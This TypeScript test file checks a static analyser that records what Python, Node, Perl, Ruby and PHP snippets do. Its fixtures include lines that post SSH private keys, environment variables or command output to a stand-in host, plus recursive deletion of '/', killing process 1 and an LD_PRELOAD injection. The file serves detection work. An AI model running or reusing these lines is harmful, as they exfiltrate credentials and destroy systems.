import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { proves } from '../../../test/proves.ts'
import type { Effect } from '../effect.ts'
import type { Language } from '../host.ts'
import { record, summary } from './harness.ts'
import { LIMITS } from './limits.ts'

/** What holds for every language: certainty, attributes, bounds, and that nothing unresolved is silent. */

const LANGUAGES = ['python', 'node', 'perl', 'ruby', 'php'] as const

/** The same deed in each language. */
const REMOVAL: Readonly<Record<(typeof LANGUAGES)[number], string>> = {
  python: 'import os; os.remove("/etc/motd")',
  node: 'require("fs").unlinkSync("/etc/motd")',
  perl: 'unlink "/etc/motd"',
  ruby: 'File.delete("/etc/motd")',
  php: 'unlink("/etc/motd");',
}

describe('one deed is one effect, whatever the language', () => {
  for (const language of LANGUAGES)
    proves('T08', language, () => {
      const [only, ...others] = record(language, REMOVAL[language]).effects
      expect(others).toEqual([])
      expect(only).toMatchObject({
        verb: 'delete',
        certainty: 'certain',
        reversible: false,
        target: { kind: 'path', value: '/etc/motd', real: '/etc/motd', scope: 'system' },
      })
    })
})

describe('certainty follows the way through the program', () => {
  for (const [language, code, expected] of [
    ['python', 'import os\nos.remove("x")', 'certain'],
    ['python', 'import os\nif a: os.remove("x")', 'possible'],
    ['python', 'import os\nfor a in b: os.remove("x")', 'likely'],
    ['python', 'import os\nfor a in [1]: os.remove("x")', 'certain'],
    ['python', 'import os\ndef f(): os.remove("x")\nf()', 'likely'],
    ['python', 'import os\ndef f(): os.remove("x")', 'likely'],
    ['python', 'import os\ntry: os.remove("x")\nexcept E: pass', 'certain'],
    ['python', 'import os\ntry: y()\nexcept E: os.remove("x")', 'possible'],
    ['python', 'import os\nif __name__ == "__main__": os.remove("x")', 'certain'],
    ['node', 'require("fs").unlinkSync("x")', 'certain'],
    ['node', 'if (a) require("fs").unlinkSync("x")', 'possible'],
    ['node', 'const f = () => require("fs").unlinkSync("x")', 'likely'],
    ['perl', 'unlink "x" if $a', 'possible'],
    ['perl', 'unlink "x"', 'certain'],
    ['ruby', 'File.delete("x") unless a', 'possible'],
    ['ruby', 'File.delete "x"', 'certain'],
    ['php', 'if ($a) { unlink("x"); }', 'possible'],
    ['php', 'unlink("x");', 'certain'],
  ] as const)
    test(`${language}: ${code}`, () => expect(record(language, code).effects.map((e) => e.certainty)).toEqual([expected]))
})

describe('what leaves is named', () => {
  const sent = (language: Language, code: string) => record(language, code).effects.find((e) => e.verb === 'send')?.attributes
  for (const [language, code, expected] of [
    ['python', 'import requests; requests.post("https://x.example/", data="x")', undefined],
    ['python', 'import requests; requests.post("https://x.example/", data=open("a.txt").read())', 'file'],
    ['python', 'import requests; requests.post("https://x.example/", data=open("/home/me/.ssh/id_rsa").read())', 'credential'],
    ['python', 'import requests, os; requests.post("https://x.example/", json=dict(os.environ))', 'environment'],
    ['python', 'import requests, os; requests.post("https://x.example/", data=os.popen("id").read())', 'command-output'],
    ['python', 'import requests; requests.get("https://x.example/?q=" + open("a.txt").read())', 'file'],
    ['node', 'fetch("https://x.example/", { method: "POST", body: "x" })', undefined],
    ['node', 'fetch("https://x.example/", { method: "POST", body: JSON.stringify(process.env) })', 'environment'],
    ['node', 'fetch("https://x.example/", { method: "POST", body: require("fs").readFileSync("/home/me/.ssh/id_rsa") })', 'credential'],
    ['node', 'fetch("https://x.example/?t=" + process.env.TOKEN)', 'environment'],
    ['perl', 'LWP::UserAgent->new->post("https://x.example/", Content => `id`)', 'command-output'],
    ['perl', 'open F, "<", "/home/me/.ssh/id_rsa"; HTTP::Tiny->new->post_form("https://x.example/", { k => <F> })', 'credential'],
    ['ruby', 'Net::HTTP.post(URI("https://x.example/"), "x")', undefined],
    ['ruby', 'Net::HTTP.post(URI("https://x.example/"), File.read("/home/me/.ssh/id_rsa"))', 'credential'],
    ['ruby', 'HTTParty.post("https://x.example/", body: ENV.to_h)', 'environment'],
    ['php', '$c = curl_init("https://x.example/"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("a")); curl_exec($c);', 'file'],
  ] as const)
    test(`${language}: ${code}`, () => expect(sent(language, code)?.carries).toBe(expected))
})

describe('attributes', () => {
  const attribute = (effects: readonly Effect[], name: string) => effects.map((e) => e.attributes[name]).find((a) => a !== undefined)
  for (const [language, code, name, expected] of [
    ['python', 'import shutil; shutil.rmtree("x")', 'recursive', true],
    ['python', 'open("x", "a")', 'append', true],
    ['python', 'import os; os.chmod("x", 0o777)', 'mode', '777'],
    ['python', 'import requests; requests.delete("https://x.example/")', 'method', 'DELETE'],
    ['python', 'import requests; requests.get("https://x.example/", verify=False)', 'insecure', true],
    ['python', 'import os; print(os.environ)', 'mass', true],
    ['python', 'import os; os.kill(1, 9)', 'mass', true],
    ['python', 'import glob, os\nfor f in glob.glob("*.o"): os.remove(f)', 'glob', true],
    ['python', 'import os; os.remove(x)', 'unresolved', true],
    ['python', 'import shutil; shutil.rmtree("/")', 'root', true],
    ['python', 'import os; os.environ["LD_PRELOAD"] = "/tmp/x.so"', 'value', '/tmp/x.so'],
    ['python', 'import stripe; stripe.Charge.create(amount=2000, currency="usd")', 'amount', '2000'],
    ['node', 'require("fs").rmSync("x", { recursive: true })', 'recursive', true],
    ['perl', 'use File::Path; rmtree("x")', 'recursive', true],
    ['perl', 'chmod 0755, "x"', 'mode', '755'],
    ['ruby', 'FileUtils.rm_rf "x"', 'recursive', true],
    ['ruby', 'File.write("x", "y", mode: "a")', 'append', true],
    ['php', 'file_put_contents("x", "y", FILE_APPEND);', 'append', true],
  ] as const)
    test(`${language}: ${code} has ${name}`, () => expect(attribute(record(language, code).effects, name)).toBe(expected))
})

describe('what cannot be read says so', () => {
  for (const [language, code, reason] of [
    ['python', 'x = "unclosed', 'a string is not closed (python)'],
    ['node', 'x = `unclosed', 'the code cannot be read: Unterminated template (1:5) (node)'],
    ['perl', 'print "unclosed', 'a string is not closed (perl)'],
    ['ruby', 'puts "unclosed', 'a string is not closed (ruby)'],
    ['php', 'echo "unclosed', 'a string is not closed (php)'],
    ['python', `x = ${'('.repeat(200)}1`, 'the code is nested too deeply (python)'],
    ['node', `x = ${'['.repeat(300)}1${']'.repeat(300)}`, 'the code is nested too deeply (node)'],
    ['perl', `$x = ${'('.repeat(200)}1`, 'the code is nested too deeply (perl)'],
    ['ruby', `x = ${'['.repeat(200)}1`, 'the code is nested too deeply (ruby)'],
    ['php', `$x = ${'('.repeat(200)}1;`, 'the code is nested too deeply (php)'],
    ['python', `x${'.y'.repeat(200)}`, 'a chain of calls is too long (python)'],
    ['ruby', `c = 'ls'\n${'a, '.repeat(150)}c = x; system(c)`, 'more is given a value at once than is followed'],
    ['node', 'x;'.repeat(LIMITS.tokens), 'the node code has more tokens than are analysed'],
    ['python', ' '.repeat(LIMITS.text + 1), 'the python code is longer than what is analysed'],
  ] as const)
    proves(['T04', 'T08'], `${language}: ${code.slice(0, 30)}`, () => {
      const { reasons } = record(language, code)
      expect(reasons).toHaveLength(1)
      expect([reason, reason.replace(`the ${language} code`, 'the code').concat(` (${language})`)]).toContain(reasons[0])
    })
})

describe('hostile programs stay within bounds and are never silent', () => {
  const repeated = (line: string, start = '') => start + line.repeat(Math.floor((LIMITS.text - start.length) / line.length))
  for (const [language, code] of [
    ['python', repeated('x = x + x\n', 'x = "aaaa"\n')],
    ['python', repeated('a = [*a, *a]\n', 'a = [1]\n')],
    ['python', repeated('y = x.replace("a", "bb")\n', 'x = "a" * 60000\n')],
    ['python', repeated('exec(x); x += "; y()"\n', 'x = "z()"\n')],
    ['python', repeated('f(f)\n', 'def f(g): g(g)\n')],
    ['node', repeated('x += x;', 'let x = "a";')],
    ['node', repeated('eval(x); x += ";b()";', 'let x = "a()";')],
    ['node', repeated('y = x.split("").reverse().join("");', 'let x = "a".repeat(60000);')],
    ['perl', repeated('$x .= $x;', '$x = "a";')],
    ['perl', repeated('f(1);', 'sub f { f(@_); f(@_) }')],
    ['perl', repeated('eval $x; $x .= ";f()";', '$x = "g()";')],
    ['ruby', repeated('x << x\n', 'x = "a"\n')],
    ['ruby', repeated('f(1)\n', 'def f(x) f(x); f(x) end\n')],
    ['php', repeated('$x .= $x;', '$x = "a";')],
    ['php', repeated('f(1);', 'function f($x) { f($x); f($x); }')],
    ['python', repeated('(')],
    ['python', repeated('f"{')],
    ['node', repeated('`${')],
    ['node', repeated('</')],
    ['perl', repeated('s/a/b/;')],
    ['perl', repeated('<<A\n')],
    ['perl', repeated('"@{[')],
    ['ruby', repeated('#{"')],
    ['ruby', repeated('<<~A\n')],
    ['ruby', repeated('begin\n')],
    ['php', repeated('"{$')],
    ['php', repeated('<?php ')],
  ] as const)
    proves(['T04', 'T05'], `${language}: ${code.slice(0, 40).replaceAll('\n', ' ')}…`, () => {
      const { effects, reasons } = record(language, code)
      expect(effects.length).toBeLessThan(2_000)
      for (const reason of reasons) expect(reason.length).toBeGreaterThan(10)
    })
})

describe('whatever stands there, analysis ends without an exception', () => {
  const words = fc.constantFrom(
    ...'( ) [ ] { } " \' ` ; , . : = => -> :: $ @ % & | / \\ < > ? ! # \n if else for while do end def sub function class return eval exec system open unlink print x y 1 2 q( qq{ <<E E s/a/b/ tr/a/b/ #{ ${ f" r\' /* */ // => lambda import from as in not and or with try except begin rescue ensure my our foreach as <?php ?> async await new `'.split(
      ' ',
    ),
  )
  for (const language of LANGUAGES)
    test(language, () => {
      fc.assert(
        fc.property(fc.array(words, { maxLength: 40 }), (tokens) => {
          expect(Array.isArray(summary(language, tokens.join(' ')))).toBe(true)
          expect(Array.isArray(summary(language, tokens.join('')))).toBe(true)
        }),
        { numRuns: 150 },
      )
    })
})

describe('what comes before or behind hides nothing', () => {
  const noise = fc.constantFrom('x = 1', 'f(a, b)', 'g(1)[2]', '(a + b)', '[1, 2]', 'h(k(3))', '"text"', "'text'", '1 + 2')
  for (const language of LANGUAGES) {
    const separator = language === 'python' || language === 'ruby' ? '\n' : ';\n'
    proves('T08', language, () => {
      fc.assert(
        fc.property(fc.array(noise, { maxLength: 6 }), fc.array(noise, { maxLength: 6 }), (before, behind) => {
          const plain = [...before, REMOVAL[language].replace(/;$/, ''), ...behind]
          expect(summary(language, plain.join(separator))).toContain('delete /etc/motd')
        }),
        { numRuns: 60 },
      )
    })
  }
})

describe('languages that are handed on', () => {
  test('shell code goes to the shell', () => expect(summary('shell', 'rm -rf x')).toEqual(['$ rm -rf x']))
})
